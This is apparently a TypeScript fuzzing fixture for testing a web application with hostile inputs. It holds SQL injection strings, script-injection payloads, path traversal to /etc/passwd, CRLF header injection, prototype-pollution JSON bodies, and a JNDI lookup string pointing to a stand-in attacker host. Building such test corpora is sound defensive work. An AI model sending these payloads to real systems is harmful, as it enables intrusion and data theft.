// What an attacker types: values and whole bodies that broke other programs, each with the mark that shows when it comes back raw.
import type { Dobbelsteen } from './lot.ts'

/** Stands in every piece of markup we send. In an answer it may only stand escaped. */
export const merk = 'zq7x'

const waarden: readonly string[] = [
  // SQL
  "'; drop table gesprek; --",
  "' or 1=1 --",
  "1' union all select null, null --",
  "$$; waitfor delay '0:0:9'; $$",
  "\\'; select 1",
  "%27%20or%20'1'='1",
  // Markup and script
  `<script>alert('${merk}')</script>`,
  `"><img src=x onerror=${merk}()>`,
  `' autofocus onfocus=${merk}() x='`,
  `</textarea><${merk}>`,
  `</title><${merk}>`,
  `javascript:${merk}()`,
  `<!--${merk}--><svg/onload=${merk}()>`,
  `{{${merk}}}\${7*7}<%= ${merk} %>`,
  // Paths and protocols
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  'file:///etc/passwd',
  'https://kwaad.voorbeeld.test/',
  '//kwaad.voorbeeld.test',
  '/\\kwaad.voorbeeld.test',
  'C:\\boot.ini',
  // Names that objects have of themselves
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  // Unicode tricks
  '\u202egnirts',
  '\u0000nul',
  '\uffff\ufffe',
  '\ud800',
  '\u200b\u200d\ufeff',
  'İ'.repeat(40),
  'a\u0301'.repeat(300),
  '👩‍👩‍👧‍👦'.repeat(50),
  'ﷺ'.repeat(200),
  // Numbers and days that are none
  'NaN',
  '-0',
  '1e309',
  '99999999999999999999',
  '-9223372036854775809',
  '0x10',
  '١٢',
  '2027-02-30',
  '0000-00-00',
  '99999-12-31',
  '25:61',
  '24:00',
  // Shapes that are none
  '',
  ' ',
  '\t\r\n',
  'null',
  'undefined',
  'true',
  '[]',
  '{"a":1}',
  '[object Object]',
  'a,b;c|d\r\nSet-Cookie: x=1',
  `x\r\n\r\n<${merk}>`,
  ['$', '{jndi:ldap://kwaad.voorbeeld.test/a}'].join(''),
  // Expressions that take long
  `${'a'.repeat(5_000)}!`,
  `${'('.repeat(2_000)}${')'.repeat(2_000)}`,
  `${' '.repeat(8_000)}x`,
  '-'.repeat(3_000),
  '00000000-0000-4000-8000-000000000000',
]

/** One value. Once in three hundred it is very long. */
export function vijandigeWaarde(d: Dobbelsteen): string {
  if (d.eenOp(300)) return d.uit(['x', '<b>', '\u0301', 'ë']).repeat(150_000)
  const one = d.uit(waarden)
  return d.eenOp(6) ? one + d.uit(waarden) : one
}

/** Names of fields that no form has. */
export const vijandigeNamen: readonly string[] = [
  '__proto__',
  'constructor[prototype][x]',
  'id[]',
  'id[0]',
  'toString',
  '',
  `<${merk}>`,
  'a'.repeat(3_000),
  'versie\u0000',
]

/** Kinds of body that our forms never send, by content type. */
export const vreemdeInhoud: readonly [soort: string, maak: (velden: string) => string | Uint8Array][] = [
  ['application/json', () => '{"__proto__":{"rol":"coordinator"},"id":1}'],
  ['application/json', () => '{'.repeat(5_000)],
  [
    'multipart/form-data; boundary=x',
    v => `--x\r\nContent-Disposition: form-data; name="id"\r\n\r\n${v}\r\n--x--`,
  ],
  ['text/plain', v => v],
  ['application/x-www-form-urlencoded; charset=utf-16', v => v],
  ['application/x-www-form-urlencoded', v => v.slice(0, Math.floor(v.length / 2))],
  ['application/x-www-form-urlencoded', v => `${v}&%`],
  ['application/x-www-form-urlencoded', v => `${v}&a=%C3%28&b=%ED%A0%80&c=%00`],
  ['application/x-www-form-urlencoded', () => new Uint8Array([0xff, 0xfe, 0x00, 0xc3, 0x28, 0x3d, 0xf0])],
  ['application/x-www-form-urlencoded', v => v.replaceAll('&', ';')],
  ['application/x-www-form-urlencoded', v => `${v}&`.repeat(20)],
  ['application/x-www-form-urlencoded', () => 'a=1&'.repeat(2_500)],
  ['', v => v],
]
